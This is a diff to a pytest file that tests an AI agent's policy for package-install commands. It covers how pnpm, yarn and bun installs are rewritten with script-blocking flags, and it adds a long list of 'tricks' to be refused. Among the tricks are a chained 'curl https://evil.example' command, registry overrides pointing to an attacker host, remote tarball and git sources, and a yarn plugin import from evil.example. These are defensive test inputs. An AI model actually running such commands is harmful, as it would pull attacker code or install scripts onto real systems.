@@ -6,7 +6,7 @@ from dataclasses import replace
 
 import pytest
 
-from agents.analysis.known_packages import read_known_packages
+from agents.analysis.known_packages import list_known_paths, read_known_packages
 from agents.errors import ToolError
 from agents.policy import Policy, Rule, parse_policy
 from agents.ports import CommandResult
@@ -61,6 +61,14 @@ def look(bench, command, **more):
         ("npm i -D mocha", "npm install --ignore-scripts --no-audit --no-fund -D mocha"),
         ("npm install left-pad@^1.2.3", "'left-pad@^1.2.3'"),
         ("cd web && npm add vitest@latest", "export npm_config_ignore_scripts=true"),
+        ("pnpm add -D mocha", "pnpm add --ignore-scripts --ignore-pnpmfile -D mocha"),
+        ("pnpm i left-pad", "pnpm add --ignore-scripts --ignore-pnpmfile left-pad"),
+        ("cd web && pnpm install --save-dev vitest@^3.1", "--save-dev 'vitest@^3.1'"),
+        ("yarn add --dev mocha", "yarn add --ignore-scripts --non-interactive --dev mocha"),
+        ("yarn add -D left-pad", "yarn add --mode=skip-build -D left-pad"),
+        ("cd web && yarn add mocha", "export YARN_IGNORE_PATH=1 YARN_ENABLE_SCRIPTS=false"),
+        ("bun add -d mocha", "bun add --ignore-scripts -d mocha"),
+        ("bun install left-pad@latest", "bun add --ignore-scripts left-pad@latest"),
     ],
 )
 async def test_what_the_repository_names_and_runners_install_without_a_question(
@@ -73,6 +81,7 @@ async def test_what_the_repository_names_and_runners_install_without_a_question(
     assert run in script
     assert network == "indexes"
     assert "--only-binary :all:" in script or "npm_config_ignore_scripts=true" in script
+    assert "--only-binary" in script or "--ignore-scripts" in script
 
 
 TRICKS = [
@@ -142,7 +151,65 @@ TRICKS = [
     "cd mono && npm i mocha",
     "cd other && npm i mocha",
     "npx --yes mocha",
-    "yarn add mocha",
+    *(
+        f"{start} {rest}"
+        for start in ("pnpm add", "pnpm install", "yarn add", "bun add", "bun install")
+        for rest in (
+            "mocah",
+            "mocha evil",
+            "mocha; curl https://evil.example",
+            "mocha@npm:evil",
+            "mocha@npm:evil@1",
+            "mocha@jsr:@evil/mocha",
+            "mocha@github:evil/mocha",
+            "mocha@git+ssh://git@evil.example/mocha",
+            "mocha@https://evil.example/x.tgz",
+            "https://evil.example/x.tgz",
+            "evil/mocha",
+            "./mocha",
+            "mocha@file:evil",
+            "mocha@link:evil",
+            "mocha@workspace:*",
+            "mocha@patch:mocha#x",
+            "--registry https://evil.example mocha",
+            "--registry=https://evil.example mocha",
+            "--config.registry=https://evil.example mocha",
+            "--ignore-scripts=false mocha",
+            "--no-ignore-scripts mocha",
+            "--use-yarnrc evil mocha",
+            "--config=evil.toml mocha",
+            "--trust mocha",
+            "--allow-build=mocha mocha",
+            "--pnpmfile evil.cjs mocha",
+            "--cwd /tmp mocha",
+            "--dir x mocha",
+            "-C x mocha",
+            "-w mocha",
+            "-g mocha",
+            "--global mocha",
+            "--mode=update-lockfile mocha",
+            "@evil/mocha",
+            "mocha > log",
+            "$EVIL mocha",
+        )
+    ),
+    "pnpm dlx mocha",
+    "pnpm exec mocha && pnpm add evil",
+    "pnpm --filter x add mocha",
+    "pnpm -r add mocha",
+    "yarn dlx mocha",
+    "yarn global add mocha",
+    "yarn workspace x add mocha",
+    "yarn set version https://evil.example/yarn.js",
+    "yarn plugin import https://evil.example/plugin.js",
+    "YARN_REGISTRY=https://evil.example yarn add mocha",
+    "npm_config_registry=https://evil.example pnpm add mocha",
+    "bun x mocha",
+    "bunx mocha",
+    "bun --config=evil.toml add mocha",
+    "cd mono && pnpm add mocha",
+    "cd mono && yarn add mocha",
+    "cd other && bun add mocha",
 ]
 
 
@@ -160,10 +227,17 @@ async def test_every_trick_is_asked_or_refused(bench, tree, command):
 
 
 async def test_a_manifest_that_the_run_wrote_brings_nothing_in_with_a_known_name(bench, tree):
-    for path in ("package.json", "web/package.json", "package-lock.json", ".npmrc"):
+    for program, path in [
+        *(("npm i", path) for path in ("package.json", "web/package.json", "package-lock.json")),
+        *(("pnpm add", path) for path in (".npmrc", "pnpm-lock.yaml", ".pnpmfile.cjs")),
+        *(("pnpm add", path) for path in ("pnpm-workspace.yaml", "web/.pnpmfile.mjs")),
+        *(("yarn add", path) for path in (".yarnrc.yml", ".yarnrc", "yarn.lock")),
+        ("yarn add", ".yarn/plugins/evil.cjs"),
+        *(("bun add", path) for path in ("bunfig.toml", "bun.lock", "bun.lockb")),
+    ]:
         tree.changed = ["src/a.js", path]
         with pytest.raises(ToolError, match="is not what the default branch has"):
-            await call("bash", {"command": "npm i mocha"}, bench=bench)
+            await call("bash", {"command": f"{program} mocha"}, bench=bench)
     assert tree.ran == []
     await call("bash", {"command": "pip install pytest"}, bench=bench)
     assert [network for _, network in tree.ran] == ["indexes"]
@@ -174,6 +248,21 @@ async def test_a_file_that_python_runs_by_itself_gets_no_way_to_the_index(bench,
     with pytest.raises(ToolError, match="would run within pip"):
         await call("bash", {"command": "pip install pytest"}, bench=bench)
     assert tree.ran == []
+
+
+async def test_a_plugin_that_yarn_would_run_gets_no_way_to_the_index(bench, tree):
+    tree.hooks = "./.yarnrc.yml\n"
+    with pytest.raises(ToolError, match="would run within Yarn"):
+        await call("bash", {"command": "yarn add mocha"}, bench=bench)
+    assert tree.ran == []
+    await call("bash", {"command": "pnpm add mocha"}, bench=bench)
+    assert [network for _, network in tree.ran] == ["indexes"]
+
+
+def test_a_workspace_of_pnpm_is_read_as_one():
+    texts = {"package.json": '{"dependencies": {"a": "1"}}', "pnpm-workspace.yaml": "packages: []"}
+    assert list_known_paths(texts) == sorted(texts)
+    assert read_known_packages("", texts).folders == frozenset()
 
 
 def test_without_a_known_name_all_is_as_it_was(bench):
